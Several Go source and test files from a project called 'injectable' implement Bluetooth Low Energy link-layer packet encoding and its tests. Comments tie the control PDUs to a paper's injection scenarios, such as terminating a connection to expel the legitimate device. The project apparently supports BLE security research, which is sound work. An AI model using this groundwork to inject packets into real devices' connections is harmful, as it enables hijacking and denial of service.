	if _, err := UnmarshalDataPDU([]byte{0x01, 0x05, 0x00}); !errors.Is(err, ErrTruncated) {
		t.Error(err)
	}
	if _, err := UnmarshalDataPDU([]byte{0x01, 0x00, 0xFF}); !errors.Is(err, ErrLength) {
		t.Error(err)
	}
	if _, err := UnmarshalDataPDU([]byte{0x00, 0x00}); !errors.Is(err, ErrUnknownType) {
		t.Error(err)
	}
}

func TestEmptyPDU(t *testing.T) {
	p := Empty(true, false)
	if !p.IsEmpty() || p.IsControl() {
		t.Fatal("Empty misclassified")
	}
	if !p.Header.SN || p.Header.NESN {
		t.Fatal("Empty SN/NESN wrong")
	}
	if len(p.Marshal()) != 2 {
		t.Fatal("empty PDU should be 2 bytes")
	}
}

func TestControlRoundTripAll(t *testing.T) {
	cases := []Control{
		ConnectionUpdateInd{WinSize: 1, WinOffset: 5, Interval: 75, Latency: 2, Timeout: 200, Instant: 1000},
		ChannelMapInd{ChannelMap: ble.AllChannels.Without(5), Instant: 42},
		TerminateInd{ErrorCode: ErrCodeRemoteUserTerminated},
		EncReq{Rand: [8]byte{1, 2, 3, 4, 5, 6, 7, 8}, EDIV: 0xBEEF, SKDm: [8]byte{9, 10, 11, 12, 13, 14, 15, 16}, IVm: [4]byte{17, 18, 19, 20}},
		EncRsp{SKDs: [8]byte{1, 1, 2, 2, 3, 3, 4, 4}, IVs: [4]byte{5, 5, 6, 6}},
		StartEncReq{},
		StartEncRsp{},
		UnknownRsp{UnknownType: 0x42},
		FeatureReq{FeatureSet: 0x1F},
		FeatureRsp{FeatureSet: 0x01},
		PauseEncReq{},
		PauseEncRsp{},
		VersionInd{VersNr: 9, CompID: 0x0059, SubVersNr: 0x1234},
		RejectInd{ErrorCode: 0x06},
		PingReq{},
		PingRsp{},
	}
	for _, in := range cases {
		raw := MarshalControl(in)
		out, err := UnmarshalControl(raw)
		if err != nil {
			t.Errorf("%v: %v", in.Opcode(), err)
			continue
		}
		if !reflect.DeepEqual(out, in) {
			t.Errorf("%v round trip:\n got %+v\nwant %+v", in.Opcode(), out, in)
		}
	}
}

func TestControlErrors(t *testing.T) {
	if _, err := UnmarshalControl(nil); !errors.Is(err, ErrTruncated) {
		t.Error(err)
	}
	if _, err := UnmarshalControl([]byte{0xFF}); !errors.Is(err, ErrUnknownType) {
		t.Error(err)
	}
	if _, err := UnmarshalControl([]byte{byte(OpTerminateInd)}); !errors.Is(err, ErrLength) {
		t.Error(err)
	}
	if _, err := UnmarshalControl([]byte{byte(OpConnectionUpdateInd), 1, 2}); !errors.Is(err, ErrLength) {
		t.Error(err)
	}
}

func TestControlDataPDU(t *testing.T) {
	p := ControlDataPDU(TerminateInd{ErrorCode: 0x13}, true, false)
	if !p.IsControl() {
		t.Fatal("not a control PDU")
	}
	if !p.Header.SN || p.Header.NESN {
		t.Fatal("SN/NESN bits wrong")
	}
	c, err := UnmarshalControl(p.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if term, ok := c.(TerminateInd); !ok || term.ErrorCode != 0x13 {
		t.Fatalf("decoded %+v", c)
	}
}

func TestOpcodeStrings(t *testing.T) {
	if OpTerminateInd.String() != "LL_TERMINATE_IND" {
		t.Fatal("opcode string")
	}
	if OpConnectionUpdateInd.String() != "LL_CONNECTION_UPDATE_IND" {
		t.Fatal("opcode string")
	}
	if Opcode(0x30).String() == "" {
		t.Fatal("unknown opcode should render")
	}
}

func TestLLIDStrings(t *testing.T) {
	if LLIDControl.String() != "control" || LLID(0).String() == "" {
		t.Fatal("LLID strings")
	}
}

func TestDataPDUString(t *testing.T) {
	s := DataPDU{Header: DataHeader{LLID: LLIDStart, SN: true}, Payload: []byte{1}}.String()
	if s == "" {
		t.Fatal("empty String()")
	}
}

func TestAdvPDUChSelBit(t *testing.T) {
	p := AdvPDU{Type: ConnectReqType, ChSel: true, TxAdd: true, RxAdd: true}
	raw := p.Marshal()
	if raw[0]&(1<<5) == 0 {
		t.Fatalf("ChSel bit not set: header %02x", raw[0])
	}
	out, err := UnmarshalAdvPDU(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !out.ChSel {
		t.Fatal("ChSel lost in round trip")
	}
	p.ChSel = false
	out, err = UnmarshalAdvPDU(p.Marshal())
	if err != nil || out.ChSel {
		t.Fatal("ChSel spuriously set")
	}
}

func TestConnectReqChSelRoundTrip(t *testing.T) {
	req := sampleConnectReq()
	req.ChSel = true
	p, err := UnmarshalAdvPDU(req.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if !p.ChSel {
		t.Fatal("CONNECT_REQ ChSel header bit lost")
	}
}

func TestAdvIndChSelRoundTrip(t *testing.T) {
	adv := AdvInd{AdvAddr: ble.MustParseAddress("C0:00:00:00:00:09"), ChSel: true}
	p, err := UnmarshalAdvPDU(adv.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if !p.ChSel {
		t.Fatal("ADV_IND ChSel header bit lost")
	}
}
