package pdu

import (
	"fmt"

	"injectable/internal/ble"
)

// AdvType is the 4-bit advertising PDU type.
type AdvType uint8

// Advertising PDU types (Core Spec Vol 6 Part B §2.3).
const (
	AdvIndType        AdvType = 0x0 // connectable undirected advertising
	AdvDirectIndType  AdvType = 0x1
	AdvNonconnIndType AdvType = 0x2
	ScanReqType       AdvType = 0x3
	ScanRspType       AdvType = 0x4
	ConnectReqType    AdvType = 0x5
	AdvScanIndType    AdvType = 0x6
)

// String implements fmt.Stringer.
func (t AdvType) String() string {
	switch t {
	case AdvIndType:
		return "ADV_IND"
	case AdvDirectIndType:
		return "ADV_DIRECT_IND"
	case AdvNonconnIndType:
		return "ADV_NONCONN_IND"
	case ScanReqType:
		return "SCAN_REQ"
	case ScanRspType:
		return "SCAN_RSP"
	case ConnectReqType:
		return "CONNECT_REQ"
	case AdvScanIndType:
		return "ADV_SCAN_IND"
	default:
		return fmt.Sprintf("ADV_TYPE(%#x)", uint8(t))
	}
}

// AdvPDU is a raw advertising-channel PDU: 2-byte header + payload.
type AdvPDU struct {
	Type    AdvType
	ChSel   bool // supports/selects Channel Selection Algorithm #2 (BLE 5.0)
	TxAdd   bool // advertiser address is random
	RxAdd   bool // target address is random
	Payload []byte
}

// Marshal renders the on-air PDU (header + payload).
func (p AdvPDU) Marshal() []byte {
	h0 := byte(p.Type) & 0x0F
	if p.ChSel {
		h0 |= 1 << 5
	}
	if p.TxAdd {
		h0 |= 1 << 6
	}
	if p.RxAdd {
		h0 |= 1 << 7
	}
	out := make([]byte, 0, 2+len(p.Payload))
	out = append(out, h0, byte(len(p.Payload)))
	return append(out, p.Payload...)
}

// UnmarshalAdvPDU parses an advertising-channel PDU.
func UnmarshalAdvPDU(b []byte) (AdvPDU, error) {
	var p AdvPDU
	if len(b) < 2 {
		return p, truncatedf("adv header needs 2 bytes, have %d", len(b))
	}
	p.Type = AdvType(b[0] & 0x0F)
	p.ChSel = b[0]&(1<<5) != 0
	p.TxAdd = b[0]&(1<<6) != 0
	p.RxAdd = b[0]&(1<<7) != 0
	n := int(b[1] & 0x3F)
	if len(b)-2 < n {
		return p, truncatedf("adv payload needs %d bytes, have %d", n, len(b)-2)
	}
	if len(b)-2 != n {
		return p, lengthf("adv payload %d bytes, header says %d", len(b)-2, n)
	}
	p.Payload = append([]byte(nil), b[2:2+n]...)
	return p, nil
}

// AdvInd is a connectable undirected advertisement.
type AdvInd struct {
	AdvAddr ble.Address
	AdvData []byte // AD structures, ≤ 31 bytes
	// ChSel advertises support for Channel Selection Algorithm #2.
	ChSel bool
}

// Marshal renders the full advertising PDU.
func (a AdvInd) Marshal() []byte {
	payload := append(a.AdvAddr.LittleEndian(), a.AdvData...)
	return AdvPDU{Type: AdvIndType, ChSel: a.ChSel, TxAdd: true, Payload: payload}.Marshal()
}

// UnmarshalAdvInd parses the payload of an ADV_IND.
func UnmarshalAdvInd(payload []byte) (AdvInd, error) {
	var a AdvInd
	if len(payload) < 6 {
		return a, truncatedf("ADV_IND needs 6-byte address, have %d", len(payload))
	}
	a.AdvAddr = ble.AddressFromLittleEndian(payload[:6])
	a.AdvData = append([]byte(nil), payload[6:]...)
	return a, nil
}

// ScanReq is an active-scanning request.
type ScanReq struct {
	ScanAddr ble.Address
	AdvAddr  ble.Address
}

// Marshal renders the full advertising PDU.
func (s ScanReq) Marshal() []byte {
	payload := append(s.ScanAddr.LittleEndian(), s.AdvAddr.LittleEndian()...)
	return AdvPDU{Type: ScanReqType, TxAdd: true, RxAdd: true, Payload: payload}.Marshal()
}

// UnmarshalScanReq parses the payload of a SCAN_REQ.
func UnmarshalScanReq(payload []byte) (ScanReq, error) {
	var s ScanReq
	if len(payload) != 12 {
		return s, lengthf("SCAN_REQ payload must be 12 bytes, have %d", len(payload))
	}
	s.ScanAddr = ble.AddressFromLittleEndian(payload[:6])
	s.AdvAddr = ble.AddressFromLittleEndian(payload[6:12])
	return s, nil
}

// ScanRsp is the response to an active scan.
type ScanRsp struct {
	AdvAddr  ble.Address
	ScanData []byte
}

// Marshal renders the full advertising PDU.
func (s ScanRsp) Marshal() []byte {
	payload := append(s.AdvAddr.LittleEndian(), s.ScanData...)
	return AdvPDU{Type: ScanRspType, TxAdd: true, Payload: payload}.Marshal()
}

// UnmarshalScanRsp parses the payload of a SCAN_RSP.
func UnmarshalScanRsp(payload []byte) (ScanRsp, error) {
	var s ScanRsp
	if len(payload) < 6 {
		return s, truncatedf("SCAN_RSP needs 6-byte address, have %d", len(payload))
	}
	s.AdvAddr = ble.AddressFromLittleEndian(payload[:6])
	s.ScanData = append([]byte(nil), payload[6:]...)
	return s, nil
}

// ConnectReq is the connection-initiation PDU, laid out exactly as the
// paper's Table II: initiator and advertiser addresses followed by the
// LLData: AA, CRCInit, WinSize, WinOffset, Interval, Latency, Timeout,
// ChannelMap, Hop (5 bits) and SCA (3 bits).
type ConnectReq struct {
	InitAddr      ble.Address
	AdvAddr       ble.Address
	AccessAddress ble.AccessAddress
	CRCInit       uint32 // 24 bits
	WinSize       uint8  // × 1.25 ms
	WinOffset     uint16 // × 1.25 ms
	Interval      uint16 // × 1.25 ms (the paper's Hop Interval)
	Latency       uint16 // slave latency, in connection events
	Timeout       uint16 // supervision timeout × 10 ms
	ChannelMap    ble.ChannelMap
	Hop           uint8 // 5-bit hop increment for CSA#1
	SCA           ble.SCA
	// ChSel selects Channel Selection Algorithm #2 for the connection
	// (carried in the PDU header, not the LLData).
	ChSel bool
}

// connectReqLLDataLen is the LLData length: 4+3+1+2+2+2+2+5+1 = 22, giving
// a 34-byte payload with the two addresses.
const connectReqLLDataLen = 22

// Marshal renders the full advertising PDU.
func (c ConnectReq) Marshal() []byte {
	payload := make([]byte, 0, 12+connectReqLLDataLen)
	payload = append(payload, c.InitAddr.LittleEndian()...)
	payload = append(payload, c.AdvAddr.LittleEndian()...)
	payload = put32(payload, uint32(c.AccessAddress))
	payload = put24(payload, c.CRCInit)
	payload = append(payload, c.WinSize)
	payload = put16(payload, c.WinOffset)
	payload = put16(payload, c.Interval)
	payload = put16(payload, c.Latency)
	payload = put16(payload, c.Timeout)
	payload = append(payload, c.ChannelMap.Bytes()...)
	payload = append(payload, (c.Hop&0x1F)|(byte(c.SCA)<<5))
	return AdvPDU{Type: ConnectReqType, ChSel: c.ChSel, TxAdd: true, RxAdd: true, Payload: payload}.Marshal()
}

// UnmarshalConnectReq parses the payload of a CONNECT_REQ.
func UnmarshalConnectReq(payload []byte) (ConnectReq, error) {
	var c ConnectReq
	if len(payload) != 12+connectReqLLDataLen {
		return c, lengthf("CONNECT_REQ payload must be 34 bytes, have %d", len(payload))
	}
	c.InitAddr = ble.AddressFromLittleEndian(payload[:6])
	c.AdvAddr = ble.AddressFromLittleEndian(payload[6:12])
	ll := payload[12:]
	c.AccessAddress = ble.AccessAddress(le32(ll[0:4]))
	c.CRCInit = le24(ll[4:7])
	c.WinSize = ll[7]
	c.WinOffset = le16(ll[8:10])
	c.Interval = le16(ll[10:12])
	c.Latency = le16(ll[12:14])
	c.Timeout = le16(ll[14:16])
	c.ChannelMap = ble.ChannelMapFromBytes(ll[16:21])
	c.Hop = ll[21] & 0x1F
	c.SCA = ble.SCA(ll[21] >> 5)
	return c, nil
}

// Validate applies the spec's parameter constraints.
func (c ConnectReq) Validate() error {
	if c.Hop < 5 || c.Hop > 16 {
		return fmt.Errorf("pdu: CONNECT_REQ hop %d outside 5..16", c.Hop)
	}
	if c.Interval < 6 || c.Interval > 3200 {
		return fmt.Errorf("pdu: CONNECT_REQ interval %d outside 6..3200", c.Interval)
	}
	if c.WinSize == 0 || uint16(c.WinSize) > c.Interval {
		return fmt.Errorf("pdu: CONNECT_REQ winSize %d invalid for interval %d", c.WinSize, c.Interval)
	}
	if c.WinOffset > c.Interval {
		return fmt.Errorf("pdu: CONNECT_REQ winOffset %d exceeds interval %d", c.WinOffset, c.Interval)
	}
	if !c.ChannelMap.Valid() {
		return fmt.Errorf("pdu: CONNECT_REQ channel map invalid")
	}
	if !c.AccessAddress.ValidForConnection() {
		return fmt.Errorf("pdu: CONNECT_REQ access address %v invalid", c.AccessAddress)
	}
	return nil
}
