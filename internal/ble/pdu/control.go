package pdu

import (
	"fmt"

	"injectable/internal/ble"
)

// Opcode identifies an LL control PDU.
type Opcode uint8

// LL control opcodes (Core Spec Vol 6 Part B §2.4.2).
const (
	OpConnectionUpdateInd Opcode = 0x00
	OpChannelMapInd       Opcode = 0x01
	OpTerminateInd        Opcode = 0x02
	OpEncReq              Opcode = 0x03
	OpEncRsp              Opcode = 0x04
	OpStartEncReq         Opcode = 0x05
	OpStartEncRsp         Opcode = 0x06
	OpUnknownRsp          Opcode = 0x07
	OpFeatureReq          Opcode = 0x08
	OpFeatureRsp          Opcode = 0x09
	OpPauseEncReq         Opcode = 0x0A
	OpPauseEncRsp         Opcode = 0x0B
	OpVersionInd          Opcode = 0x0C
	OpRejectInd           Opcode = 0x0D
	OpPingReq             Opcode = 0x12
	OpPingRsp             Opcode = 0x13
)

// String implements fmt.Stringer.
func (o Opcode) String() string {
	switch o {
	case OpConnectionUpdateInd:
		return "LL_CONNECTION_UPDATE_IND"
	case OpChannelMapInd:
		return "LL_CHANNEL_MAP_IND"
	case OpTerminateInd:
		return "LL_TERMINATE_IND"
	case OpEncReq:
		return "LL_ENC_REQ"
	case OpEncRsp:
		return "LL_ENC_RSP"
	case OpStartEncReq:
		return "LL_START_ENC_REQ"
	case OpStartEncRsp:
		return "LL_START_ENC_RSP"
	case OpUnknownRsp:
		return "LL_UNKNOWN_RSP"
	case OpFeatureReq:
		return "LL_FEATURE_REQ"
	case OpFeatureRsp:
		return "LL_FEATURE_RSP"
	case OpPauseEncReq:
		return "LL_PAUSE_ENC_REQ"
	case OpPauseEncRsp:
		return "LL_PAUSE_ENC_RSP"
	case OpVersionInd:
		return "LL_VERSION_IND"
	case OpRejectInd:
		return "LL_REJECT_IND"
	case OpPingReq:
		return "LL_PING_REQ"
	case OpPingRsp:
		return "LL_PING_RSP"
	default:
		return fmt.Sprintf("LL_OPCODE(%#02x)", uint8(o))
	}
}

// Control is implemented by every typed LL control PDU.
type Control interface {
	// Opcode returns the PDU's opcode.
	Opcode() Opcode
	// MarshalPayload renders the CtrData (without the opcode byte).
	MarshalPayload() []byte
}

// MarshalControl renders a complete control-PDU payload: opcode + CtrData.
func MarshalControl(c Control) []byte {
	return append([]byte{byte(c.Opcode())}, c.MarshalPayload()...)
}

// ControlDataPDU wraps a control PDU into a data-channel PDU with the given
// SN/NESN bits — what an attacker actually injects.
func ControlDataPDU(c Control, sn, nesn bool) DataPDU {
	return DataPDU{
		Header:  DataHeader{LLID: LLIDControl, SN: sn, NESN: nesn},
		Payload: MarshalControl(c),
	}
}

// UnmarshalControl parses a control-PDU payload (opcode + CtrData) into its
// typed form.
func UnmarshalControl(payload []byte) (Control, error) {
	if len(payload) < 1 {
		return nil, truncatedf("control PDU needs opcode byte")
	}
	op := Opcode(payload[0])
	body := payload[1:]
	need := func(n int) error {
		if len(body) != n {
			return lengthf("%v CtrData must be %d bytes, have %d", op, n, len(body))
		}
		return nil
	}
	switch op {
	case OpConnectionUpdateInd:
		if err := need(11); err != nil {
			return nil, err
		}
		return ConnectionUpdateInd{
			WinSize:   body[0],
			WinOffset: le16(body[1:3]),
			Interval:  le16(body[3:5]),
			Latency:   le16(body[5:7]),
			Timeout:   le16(body[7:9]),
			Instant:   le16(body[9:11]),
		}, nil
	case OpChannelMapInd:
		if err := need(7); err != nil {
			return nil, err
		}
		return ChannelMapInd{
			ChannelMap: ble.ChannelMapFromBytes(body[0:5]),
			Instant:    le16(body[5:7]),
		}, nil
	case OpTerminateInd:
		if err := need(1); err != nil {
			return nil, err
		}
		return TerminateInd{ErrorCode: body[0]}, nil
	case OpEncReq:
		if err := need(22); err != nil {
			return nil, err
		}
		var e EncReq
		copy(e.Rand[:], body[0:8])
		e.EDIV = le16(body[8:10])
		copy(e.SKDm[:], body[10:18])
		copy(e.IVm[:], body[18:22])
		return e, nil
	case OpEncRsp:
		if err := need(12); err != nil {
			return nil, err
		}
		var e EncRsp
		copy(e.SKDs[:], body[0:8])
		copy(e.IVs[:], body[8:12])
		return e, nil
	case OpStartEncReq:
		if err := need(0); err != nil {
			return nil, err
		}
		return StartEncReq{}, nil
	case OpStartEncRsp:
		if err := need(0); err != nil {
			return nil, err
		}
		return StartEncRsp{}, nil
	case OpUnknownRsp:
		if err := need(1); err != nil {
			return nil, err
		}
		return UnknownRsp{UnknownType: body[0]}, nil
	case OpFeatureReq, OpFeatureRsp:
		if err := need(8); err != nil {
			return nil, err
		}
		var fs uint64
		for i := 0; i < 8; i++ {
			fs |= uint64(body[i]) << (8 * i)
		}
		if op == OpFeatureReq {
			return FeatureReq{FeatureSet: fs}, nil
		}
		return FeatureRsp{FeatureSet: fs}, nil
	case OpPauseEncReq:
		if err := need(0); err != nil {
			return nil, err
		}
		return PauseEncReq{}, nil
	case OpPauseEncRsp:
		if err := need(0); err != nil {
			return nil, err
		}
		return PauseEncRsp{}, nil
	case OpVersionInd:
		if err := need(5); err != nil {
			return nil, err
		}
		return VersionInd{VersNr: body[0], CompID: le16(body[1:3]), SubVersNr: le16(body[3:5])}, nil
	case OpRejectInd:
		if err := need(1); err != nil {
			return nil, err
		}
		return RejectInd{ErrorCode: body[0]}, nil
	case OpPingReq:
		if err := need(0); err != nil {
			return nil, err
		}
		return PingReq{}, nil
	case OpPingRsp:
		if err := need(0); err != nil {
			return nil, err
		}
		return PingRsp{}, nil
	default:
		return nil, fmt.Errorf("%w: opcode %#02x", ErrUnknownType, uint8(op))
	}
}

// ConnectionUpdateInd updates connection timing at a future instant —
// the PDU scenarios C and D of the paper inject to split master and slave
// onto different hop schedules.
type ConnectionUpdateInd struct {
	WinSize   uint8
	WinOffset uint16
	Interval  uint16
	Latency   uint16
	Timeout   uint16
	Instant   uint16
}

// Opcode implements Control.
func (ConnectionUpdateInd) Opcode() Opcode { return OpConnectionUpdateInd }

// MarshalPayload implements Control.
func (c ConnectionUpdateInd) MarshalPayload() []byte {
	out := make([]byte, 0, 11)
	out = append(out, c.WinSize)
	out = put16(out, c.WinOffset)
	out = put16(out, c.Interval)
	out = put16(out, c.Latency)
	out = put16(out, c.Timeout)
	out = put16(out, c.Instant)
	return out
}

// ChannelMapInd updates the channel map at a future instant.
type ChannelMapInd struct {
	ChannelMap ble.ChannelMap
	Instant    uint16
}

// Opcode implements Control.
func (ChannelMapInd) Opcode() Opcode { return OpChannelMapInd }

// MarshalPayload implements Control.
func (c ChannelMapInd) MarshalPayload() []byte {
	out := make([]byte, 0, 7)
	out = append(out, c.ChannelMap.Bytes()...)
	return put16(out, c.Instant)
}

// TerminateInd closes the connection — the PDU scenario B injects to expel
// the legitimate slave.
type TerminateInd struct{ ErrorCode uint8 }

// Error codes used with LL_TERMINATE_IND / disconnections.
const (
	ErrCodeRemoteUserTerminated  uint8 = 0x13
	ErrCodeConnectionTimeout     uint8 = 0x08
	ErrCodeMICFailure            uint8 = 0x3D
	ErrCodeConnectionFailedToEst uint8 = 0x3E
)

// Opcode implements Control.
func (TerminateInd) Opcode() Opcode { return OpTerminateInd }

// MarshalPayload implements Control.
func (t TerminateInd) MarshalPayload() []byte { return []byte{t.ErrorCode} }

// EncReq starts the LL encryption procedure (master → slave).
type EncReq struct {
	Rand [8]byte
	EDIV uint16
	SKDm [8]byte
	IVm  [4]byte
}

// Opcode implements Control.
func (EncReq) Opcode() Opcode { return OpEncReq }

// MarshalPayload implements Control.
func (e EncReq) MarshalPayload() []byte {
	out := make([]byte, 0, 22)
	out = append(out, e.Rand[:]...)
	out = put16(out, e.EDIV)
	out = append(out, e.SKDm[:]...)
	return append(out, e.IVm[:]...)
}

// EncRsp answers LL_ENC_REQ (slave → master).
type EncRsp struct {
	SKDs [8]byte
	IVs  [4]byte
}

// Opcode implements Control.
func (EncRsp) Opcode() Opcode { return OpEncRsp }

// MarshalPayload implements Control.
func (e EncRsp) MarshalPayload() []byte {
	out := make([]byte, 0, 12)
	out = append(out, e.SKDs[:]...)
	return append(out, e.IVs[:]...)
}

// StartEncReq requests encryption start (slave → master, already encrypted).
type StartEncReq struct{}

// Opcode implements Control.
func (StartEncReq) Opcode() Opcode { return OpStartEncReq }

// MarshalPayload implements Control.
func (StartEncReq) MarshalPayload() []byte { return nil }

// StartEncRsp completes encryption start.
type StartEncRsp struct{}

// Opcode implements Control.
func (StartEncRsp) Opcode() Opcode { return OpStartEncRsp }

// MarshalPayload implements Control.
func (StartEncRsp) MarshalPayload() []byte { return nil }

// UnknownRsp reports an unsupported control opcode.
type UnknownRsp struct{ UnknownType uint8 }

// Opcode implements Control.
func (UnknownRsp) Opcode() Opcode { return OpUnknownRsp }

// MarshalPayload implements Control.
func (u UnknownRsp) MarshalPayload() []byte { return []byte{u.UnknownType} }

// FeatureReq carries the initiator's LL feature set.
type FeatureReq struct{ FeatureSet uint64 }

// Opcode implements Control.
func (FeatureReq) Opcode() Opcode { return OpFeatureReq }

// MarshalPayload implements Control.
func (f FeatureReq) MarshalPayload() []byte { return feature8(f.FeatureSet) }

// FeatureRsp answers LL_FEATURE_REQ.
type FeatureRsp struct{ FeatureSet uint64 }

// Opcode implements Control.
func (FeatureRsp) Opcode() Opcode { return OpFeatureRsp }

// MarshalPayload implements Control.
func (f FeatureRsp) MarshalPayload() []byte { return feature8(f.FeatureSet) }

func feature8(fs uint64) []byte {
	out := make([]byte, 8)
	for i := range out {
		out[i] = byte(fs >> (8 * i))
	}
	return out
}

// PauseEncReq starts the encryption-pause procedure.
type PauseEncReq struct{}

// Opcode implements Control.
func (PauseEncReq) Opcode() Opcode { return OpPauseEncReq }

// MarshalPayload implements Control.
func (PauseEncReq) MarshalPayload() []byte { return nil }

// PauseEncRsp completes the encryption-pause procedure.
type PauseEncRsp struct{}

// Opcode implements Control.
func (PauseEncRsp) Opcode() Opcode { return OpPauseEncRsp }

// MarshalPayload implements Control.
func (PauseEncRsp) MarshalPayload() []byte { return nil }

// VersionInd exchanges LL version information.
type VersionInd struct {
	VersNr    uint8
	CompID    uint16
	SubVersNr uint16
}

// Opcode implements Control.
func (VersionInd) Opcode() Opcode { return OpVersionInd }

// MarshalPayload implements Control.
func (v VersionInd) MarshalPayload() []byte {
	out := []byte{v.VersNr}
	out = put16(out, v.CompID)
	return put16(out, v.SubVersNr)
}

// RejectInd rejects a control procedure.
type RejectInd struct{ ErrorCode uint8 }

// Opcode implements Control.
func (RejectInd) Opcode() Opcode { return OpRejectInd }

// MarshalPayload implements Control.
func (r RejectInd) MarshalPayload() []byte { return []byte{r.ErrorCode} }

// PingReq is the LL keep-alive probe.
type PingReq struct{}

// Opcode implements Control.
func (PingReq) Opcode() Opcode { return OpPingReq }

// MarshalPayload implements Control.
func (PingReq) MarshalPayload() []byte { return nil }

// PingRsp answers LL_PING_REQ.
type PingRsp struct{}

// Opcode implements Control.
func (PingRsp) Opcode() Opcode { return OpPingRsp }

// MarshalPayload implements Control.
func (PingRsp) MarshalPayload() []byte { return nil }
