package ble

import (
	"testing"
	"testing/quick"

	"injectable/internal/sim"
)

func TestAccessAddressValidity(t *testing.T) {
	cases := []struct {
		aa   AccessAddress
		want bool
	}{
		{AdvertisingAccessAddress, false},        // the advertising AA itself
		{AdvertisingAccessAddress ^ 0x01, false}, /* one bit away */
		{0x00000000, false},                      // long run of zeros
		{0xFFFFFFFF, false},                      // long run of ones
		{0x55555555, false},                      // > 24 transitions
		{0x71764129, true},                       // a typical controller AA
	}
	for _, tc := range cases {
		if got := tc.aa.ValidForConnection(); got != tc.want {
			t.Errorf("ValidForConnection(%v) = %v, want %v", tc.aa, got, tc.want)
		}
	}
}

func TestNewAccessAddressAlwaysValid(t *testing.T) {
	rng := sim.NewRNG(3)
	for i := 0; i < 200; i++ {
		if aa := NewAccessAddress(rng); !aa.ValidForConnection() {
			t.Fatalf("generated invalid AA %v", aa)
		}
	}
}

func TestAddressParseRoundTrip(t *testing.T) {
	a, err := ParseAddress("11:22:33:44:55:66")
	if err != nil {
		t.Fatal(err)
	}
	if a.String() != "11:22:33:44:55:66" {
		t.Fatalf("String = %q", a.String())
	}
}

func TestAddressParseErrors(t *testing.T) {
	for _, s := range []string{"", "11:22:33", "11:22:33:44:55:zz", "112233445566", "11:22:33:44:55:66:77"} {
		if _, err := ParseAddress(s); err == nil {
			t.Errorf("ParseAddress(%q) accepted", s)
		}
	}
}

func TestMustParseAddressPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("no panic")
		}
	}()
	MustParseAddress("bogus")
}

func TestAddressLittleEndianRoundTrip(t *testing.T) {
	f := func(raw [6]byte) bool {
		a := Address(raw)
		return AddressFromLittleEndian(a.LittleEndian()) == a
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestAddressLittleEndianOrder(t *testing.T) {
	a := MustParseAddress("11:22:33:44:55:66")
	le := a.LittleEndian()
	if le[0] != 0x66 || le[5] != 0x11 {
		t.Fatalf("LittleEndian = % X", le)
	}
}

func TestRandomAddressIsStaticRandom(t *testing.T) {
	rng := sim.NewRNG(5)
	a := RandomAddress(rng)
	if a[0]&0xC0 != 0xC0 {
		t.Fatalf("static random address must have top two bits set: %v", a)
	}
}

func TestChannelMapBasics(t *testing.T) {
	m := AllChannels
	if m.CountUsed() != 37 || !m.Valid() {
		t.Fatal("AllChannels wrong")
	}
	m = m.Without(0, 36, 17)
	if m.CountUsed() != 34 {
		t.Fatalf("CountUsed = %d", m.CountUsed())
	}
	if m.Used(0) || m.Used(36) || m.Used(17) || !m.Used(1) {
		t.Fatal("Without wrong")
	}
	chs := m.UsedChannels()
	if len(chs) != 34 || chs[0] != 1 {
		t.Fatalf("UsedChannels = %v", chs)
	}
}

func TestChannelMapValidity(t *testing.T) {
	if ChannelMap(0).Valid() {
		t.Error("empty map valid")
	}
	if ChannelMap(1).Valid() {
		t.Error("single channel valid")
	}
	if !ChannelMap(3).Valid() {
		t.Error("two channels invalid")
	}
	if (ChannelMap(1<<37) | 3).Valid() {
		t.Error("bit 37 accepted")
	}
}

func TestChannelMapBytesRoundTrip(t *testing.T) {
	f := func(raw uint64) bool {
		m := ChannelMap(raw) & AllChannels
		return ChannelMapFromBytes(m.Bytes()) == m
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestChannelMapWithoutOutOfRange(t *testing.T) {
	m := AllChannels.Without(40, 99) // must be ignored, not panic
	if m != AllChannels {
		t.Fatal("out-of-range Without changed map")
	}
}

func TestSCAWorstPPM(t *testing.T) {
	cases := map[SCA]float64{
		SCA0to20ppm: 20, SCA21to30ppm: 30, SCA31to50ppm: 50, SCA51to75ppm: 75,
		SCA76to100ppm: 100, SCA101to150ppm: 150, SCA151to250ppm: 250, SCA251to500ppm: 500,
	}
	for s, want := range cases {
		if got := s.WorstPPM(); got != want {
			t.Errorf("%v.WorstPPM() = %f, want %f", s, got, want)
		}
	}
	if SCA(9).WorstPPM() != 500 {
		t.Error("invalid SCA should assume worst case")
	}
}

func TestSCAFromPPMRoundTrip(t *testing.T) {
	for _, ppm := range []float64{5, 20, 25, 45, 60, 90, 120, 200, 400} {
		s := SCAFromPPM(ppm)
		if s.WorstPPM() < ppm {
			t.Errorf("SCAFromPPM(%f) = %v does not cover the rating", ppm, s)
		}
	}
}

func TestTimingConstants(t *testing.T) {
	if TIFS != 150*sim.Microsecond {
		t.Error("TIFS wrong")
	}
	if ConnUnit != 1250*sim.Microsecond {
		t.Error("ConnUnit wrong")
	}
	if WindowWideningFloor != 32*sim.Microsecond {
		t.Error("widening floor wrong")
	}
}
