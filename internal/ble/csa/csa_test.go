package csa

import (
	"testing"
	"testing/quick"

	"injectable/internal/ble"
)

func TestAlgorithm1HopSequence(t *testing.T) {
	a, err := NewAlgorithm1(7, ble.AllChannels)
	if err != nil {
		t.Fatal(err)
	}
	// With all channels used, channel(e) = ((e+1)*7) mod 37.
	for e := uint16(0); e < 100; e++ {
		want := uint8((uint32(e+1) * 7) % 37)
		if got := a.ChannelFor(e); got != want {
			t.Fatalf("event %d: channel %d, want %d", e, got, want)
		}
	}
}

func TestAlgorithm1VisitsAllChannels(t *testing.T) {
	// hopIncrement coprime with 37 (37 is prime, so any 5..16 works):
	// 37 consecutive events must visit all 37 channels exactly once.
	for hop := uint8(5); hop <= 16; hop++ {
		a, err := NewAlgorithm1(hop, ble.AllChannels)
		if err != nil {
			t.Fatal(err)
		}
		seen := map[uint8]bool{}
		for e := uint16(0); e < 37; e++ {
			seen[a.ChannelFor(e)] = true
		}
		if len(seen) != 37 {
			t.Fatalf("hop %d visited %d channels in 37 events", hop, len(seen))
		}
	}
}

func TestAlgorithm1Remapping(t *testing.T) {
